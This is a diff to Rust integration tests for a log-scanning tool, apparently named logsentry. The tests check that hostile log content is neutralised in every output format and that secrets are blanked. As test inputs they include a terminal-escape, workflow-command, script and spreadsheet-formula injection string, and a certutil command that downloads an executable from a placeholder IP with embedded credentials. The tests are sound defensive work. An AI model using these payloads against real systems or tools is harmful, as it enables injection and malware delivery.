@@ -1,6 +1,6 @@
 //! Commands as their users type them.
 
-use crate::support::{Folder, root, run, run_in};
+use crate::support::{FORMATS, Folder, root, run, run_in};
 
 #[test]
 fn version_says_what_was_built() {
@@ -82,11 +82,13 @@ fn hostile_log_text_is_harmless_on_every_way_out() {
     let name = "\u{1b}[31m\u{202e}::error::<script>alert(1)</script>](https://evil)=cmd()";
     let line = serde_json::json!({"Channel": "Security", "EventID": 4625, "TargetUserName": name, "IpAddress": "=cmd()", "TimeCreated": "2026-03-02T09:00:00Z"});
     folder.write("a.jsonl", format!("{line}\n"));
-    for format in ["console", "json", "jsonl", "matches", "csv", "sarif", "html"] {
+    for format in FORMATS {
         let ran = folder.run(&["scan", "a.jsonl", "--no-config", "--format", format]).with_code(0);
+        // One format is made of commands; they are ours alone.
+        let is_ours = |line: &str| format == "github" && line.starts_with("::notice title=Windows");
         for text in [&ran.stdout, &ran.stderr] {
             assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}'), "{format}: {text}");
-            assert!(text.lines().all(|line| !line.trim_start().starts_with("::")), "{format}: {text}");
+            assert!(text.lines().all(|line| is_ours(line) || !line.trim_start().starts_with("::")), "{format}: {text}");
         }
         if format == "html" {
             assert!(!ran.stdout.contains("<script>alert"), "{}", ran.stdout);
@@ -125,12 +127,33 @@ fn several_reports_come_from_one_scan() {
 }
 
 #[test]
+fn a_job_summary_is_added_to_and_other_files_are_replaced() {
+    let folder = Folder::new();
+    folder
+        .write("a.log", "Mar  2 09:00:01 gate sshd[77]: Failed password for root from 198.51.100.7 port 50011 ssh2\n");
+    let summary = folder.write("summary.md", "# Before\n");
+    folder.write("other.md", "# Before\n");
+    let report = format!("markdown={}", summary.display());
+    let scan = || {
+        let mut command = crate::support::command(folder.path());
+        command.env("GITHUB_STEP_SUMMARY", &summary).env("GITHUB_ACTIONS", "true");
+        command.args(["scan", "a.log", "--no-config", "--report", "markdown=other.md", "--report", &report]);
+        command.output().expect("it was built").status.code()
+    };
+    assert_eq!((scan(), scan()), (Some(0), Some(0)));
+    assert!(folder.read("summary.md").starts_with("# Before\n## logsentry: LOW_RISK"));
+    assert_eq!(folder.read("summary.md").matches("## logsentry").count(), 2);
+    assert!(folder.read("other.md").starts_with("## logsentry"));
+    assert_eq!(folder.read("other.md").matches("## logsentry").count(), 1);
+}
+
+#[test]
 fn secrets_are_blanked_in_every_report() {
     let folder = Folder::new();
     let line = serde_json::json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": "C:\\Windows\\System32\\certutil.exe",
         "CommandLine": "certutil -urlcache -split -f https://u:hunter2@198.51.100.7/x.exe password=tops3cret", "UtcTime": "2026-03-02 09:00:00.000"});
     folder.write("a.jsonl", format!("{line}\n"));
-    for format in ["console", "json", "jsonl", "matches", "csv", "sarif", "html"] {
+    for format in FORMATS {
         let ran = folder.run(&["scan", "a.jsonl", "--no-config", "--format", format]).with_code(0);
         assert!(!ran.stdout.contains("tops3cret") && !ran.stdout.contains("hunter2"), "{format}: {}", ran.stdout);
         assert!(format == "console" || ran.stdout.contains("certutil"), "{format}: {}", ran.stdout);
